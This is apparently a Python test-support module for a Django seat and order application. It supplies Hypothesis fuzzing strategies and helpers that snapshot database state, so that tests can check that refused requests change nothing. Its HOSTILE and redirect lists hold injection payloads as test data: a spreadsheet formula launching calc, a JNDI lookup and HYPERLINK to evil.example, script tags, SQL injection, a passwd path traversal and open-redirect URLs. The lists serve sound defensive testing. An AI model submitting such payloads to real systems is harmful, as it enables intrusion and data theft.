"""Hostile input for the fuzzing tests, and the means to tell that a refused request changed
nothing."""

from contextlib import contextmanager

from django.contrib.messages import get_messages
from django.db import transaction
from django.db.models import Count
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

from accounts.models import User
from notifications.models import OutboundEmail
from orders.models import Order, Refund
from seats.models import (
    Enrollment,
    Redemption,
    ReturnRequest,
    Seat,
    SeatEvent,
    SupplementalAnswer,
)

# Modest, so the suite stays fast; every example runs in a transaction rolled back after it, so
# the function-scoped fixtures are the same for each one.
fuzz = settings(
    max_examples=30,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

HOSTILE = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    "+1+1",
    "-1",
    "@SUM(1+1)",
    "\t=1",
    "'",
    '"',
    '""',
    'a"b',
    "\\",
    "%s%n",
    "{0}{seat}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "../../etc/passwd",
    "\u202egnp.exe",
    "😀" * 10,
    "zoë",
    "İstanbul",
    "\ufeff",
    "\r\n",
    "\x85\u2028\u2029",
    "x" * 10_000,
    "9" * 40,
    "-0",
    "1e309",
    "NaN",
    "null",
    "0x10",
]

# Any text a browser can send (UTF-8 cannot carry lone surrogates).
any_text = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=60)
hostile_text = st.one_of(st.sampled_from(HOSTILE), any_text)

# Addresses up to RFC 5321's 254 characters; longer ones are refused with a message
# (tests/reliability/test_form_fuzz.py::test_overlong_email_*).
simple_email = st.builds(
    "{}@{}.example.com".format,
    st.from_regex(r"[a-zA-Z0-9]{1,12}([._+-][a-zA-Z0-9]{1,6})?", fullmatch=True),
    st.from_regex(r"[a-z0-9]{1,12}", fullmatch=True),
)
email_like = st.one_of(simple_email, st.emails(), hostile_text)
id_like = st.one_of(
    st.integers(min_value=-(2**70), max_value=2**70).map(str),
    st.sampled_from(["1", "0", "-1", "9223372036854775808", "1.5", "1e3", " 1 ", "١"]),
    hostile_text,
)
# Local paths, other hosts and schemes; bare words ("welcome") have tests of their own in
# test_form_fuzz.py.
next_like = st.one_of(
    st.sampled_from(
        [
            "/account/orders/",
            "//evil.example/",
            "https://evil.example/",
            "http://[",
            "javascript:alert(1)",
            "/\\evil.example",
            "///x",
        ]
    ),
    hostile_text.map("/{}".format),
)


@contextmanager
def rolled_back():
    """One example's changes, undone after it whatever happened."""
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


def state() -> dict:
    """Everything a refused request must leave as it was."""
    return {
        "seats": list(
            Seat.objects.order_by("pk").values_list(
                "pk", "status", "version", "learner", "enrollment", "owner_group"
            )
        ),
        "users": list(
            User.objects.order_by("pk").values_list("pk", "email", "password", "last_login")
        ),
        "orders": Order.objects.count(),
        "events": SeatEvent.objects.count(),
        "emails": OutboundEmail.objects.count(),
        "enrollments": list(Enrollment.objects.values_list("pk", "status").order_by("pk")),
        "links": list(Redemption.objects.values_list("pk", "state").order_by("pk")),
        "returns": list(ReturnRequest.objects.values_list("pk", "state").order_by("pk")),
        "refunds": Refund.objects.count(),
        "answers": SupplementalAnswer.objects.count(),
    }


def seats_by_status() -> dict[str, int]:
    return dict(Seat.objects.values_list("status").annotate(n=Count("pk")))


def message_levels(response) -> list[str]:
    """The levels of the messages the request left for the next page."""
    return [message.level_tag for message in get_messages(response.wsgi_request)]
